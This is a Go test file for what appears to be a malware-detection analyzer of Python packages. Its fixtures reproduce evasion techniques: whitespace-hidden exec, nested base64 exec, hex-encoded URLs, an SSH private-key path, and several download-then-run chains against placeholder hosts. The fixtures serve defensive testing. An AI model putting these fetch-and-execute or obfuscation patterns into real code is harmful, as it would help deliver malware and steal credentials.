package flow

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
)

func TestFacts(t *testing.T) {
	trace := execute(t, `== setup.py
# -*- coding: latin-1 -*-
import pkg
x = 1`+strings.Repeat(" ", 120)+`; exec("y")
== pkg/__init__.py
OO0OO0O = IlIlIl1 = "`+strings.Repeat("ab", 500)+`"
normal = 1
== pkg/lost.py
print "two"
print
`)
	files := trace.Files
	if len(files) != 3 {
		t.Fatalf("%d files", len(files))
	}
	if f := files[0]; f.Stage != Build || f.Orphan || f.Cookie != "latin-1" || f.WideLine != 3 || f.WideGap < 100 {
		t.Errorf("setup.py: %+v", f)
	}
	if f := files[1]; f.Stage != Build || f.Orphan || f.LiteralBytes != 1000 || f.LiteralEntropy != 1 || f.ConfusableNames < 0.6 || f.LongestLine < 1000 {
		t.Errorf("pkg: %+v", f)
	}
	if f := files[2]; f.Stage != Import || !f.Orphan || f.Dialect != "2" {
		t.Errorf("pkg/lost.py: %+v", f)
	}
}

func TestMentions(t *testing.T) {
	trace := execute(t, `
"""See https://docs.invalid/ in the documentation."""
import os
a = "https://one.invalid/x"
b = "https://" + "two" + ".invalid/y"
c = os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")
d = bytes.fromhex("68747470733a2f2f74687265652e696e76616c69642f7a").decode()
`)
	var said []string
	for _, m := range trace.Mentions {
		said = append(said, m.Text)
	}
	for _, want := range []string{"https://one.invalid/x", "https://two.invalid/y", "https://three.invalid/z"} {
		if !slices.Contains(said, want) {
			t.Errorf("%q is not among %q", want, said)
		}
	}
	if all := strings.Join(said, " "); strings.Contains(all, "docs.invalid") || !strings.Contains(all, ".ssh") {
		t.Errorf("mentions %q", said)
	}
}

func TestLayers(t *testing.T) {
	trace := execute(t, `
import base64
exec(base64.b64decode(base64.b64encode(b"import zlib\nexec('x = 1')")))
unused = "aW1wb3J0IG9zCm9zLnN5c3RlbSgndHJ1ZScpCmltcG9ydCBzeXMKcHJpbnQoc3lzLmFyZ3YpCg=="
`)
	var seen []string
	for _, l := range trace.Layers {
		seen = append(seen, fmt.Sprintf("%s %v %v", strings.Join(l.Layers, "/"), l.Executed, l.Python))
	}
	for _, want := range []string{"exec(base64)/exec() true true", "literal(base64) false true"} {
		if !slices.Contains(seen, want) {
			t.Errorf("%q is not among %q", want, seen)
		}
	}
}

func TestImportsOnceAStage(t *testing.T) {
	trace := execute(t, `== setup.py
import os, os
import requests as r
from pkg import x
== pkg/__init__.py
import os
x = 1
def f(): import os
`)
	var got []string
	for _, i := range trace.Imports {
		got = append(got, fmt.Sprintf("%d %s %s", i.Stage, i.Module, i.Path))
	}
	want := []string{"0 os setup.py", "0 requests setup.py", "0 os pkg/__init__.py", "4 os pkg/__init__.py"}
	if !slices.Equal(got, want) {
		t.Errorf("imports %q, want %q", got, want)
	}
}

// TestWrittenFiles: what is read from, or started at, a path carries what was
// written there.
func TestWrittenFiles(t *testing.T) {
	for name, code := range map[string]string{
		"text":        "open('/tmp/payload.bin', 'wb').write(requests.get(u).content)\nos.system('/tmp/payload.bin')\n",
		"with":        "with open('payload.bin', 'wb') as f: f.write(requests.get(u).content)\nos.system('start payload.bin')\n",
		"variable":    "p = os.path.join(os.environ['TEMP'], 'payload.bin')\nf = open(p, 'wb')\nf.write(requests.get(u).content)\nf.close()\nos.system(p)\n",
		"temporary":   "f = tempfile.NamedTemporaryFile(delete=False)\nf.write(requests.get(u).content)\nos.system(f.name)\n",
		"urlretrieve": "urllib.request.urlretrieve(u, 'payload.bin')\nos.system('payload.bin')\n",
		"pathlib":     "p = pathlib.Path('payload.bin')\np.write_bytes(requests.get(u).content)\nos.system(str(p))\n",
		"copied":      "open('one.bin', 'wb').write(requests.get(u).content)\nshutil.copy('one.bin', 'two.bin')\nos.system('two.bin')\n",
		"read again":  "open('one.bin', 'wb').write(requests.get(u).content)\nos.system(open('one.bin').read())\n",
	} {
		trace := execute(t, "import os, requests, tempfile, urllib.request, pathlib, shutil\nu = 'https://a.invalid'\n"+code)
		labels := ""
		for i := range trace.Events {
			if trace.Events[i].Name == "os.system" {
				labels = trace.Events[i].Labels.String() + " | " + labelsOf(trace.Events[i].Args[0]).String()
			}
		}
		if strings.Count(labels, "network") < 2 || !strings.Contains(labels, "written") {
			t.Errorf("%s: the command carries %q", name, labels)
		}
	}
}

// TestMemory: of large artifacts all is executed, though not all trees are kept.
func TestMemory(t *testing.T) {
	p := New(Config{})
	body := strings.Repeat("def f(x):\n    return x + 1 # "+strings.Repeat("filling ", 60)+"\n", 4000)
	const modules = 8
	p.Add(Source{Path: "a.py", Module: "a", Text: []byte("import m0\nimport m1\n")})
	for i := range modules {
		p.Add(Source{Path: fmt.Sprintf("m%d.py", i), Module: fmt.Sprintf("m%d", i), Text: []byte(fmt.Sprintf("import m%d\n", i+1) + body)})
	}
	trace, err := p.Run(context.Background(), []EntryPoint{{Stage: Import, Module: "a"}})
	if err != nil || trace.Functions != modules*4000 {
		t.Errorf("%d functions, %v", trace.Functions, err)
	}
}

func TestCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	p := New(Config{})
	p.Add(Source{Path: "setup.py", Text: []byte(strings.Repeat("x = 1\n", 100_000))})
	if _, err := p.Run(ctx, []EntryPoint{{Stage: Build, Path: "setup.py"}}); !errors.Is(err, context.Canceled) {
		t.Errorf("error %v", err)
	}
}

// TestProblems: what a limit keeps from being read is told.
func TestProblems(t *testing.T) {
	trace := execute(t, "s = 'exec(s)'\nexec(s)\n")
	if len(trace.Problems) == 0 || trace.Problems[0].Limit != "layers" {
		t.Errorf("problems %+v", trace.Problems)
	}
}
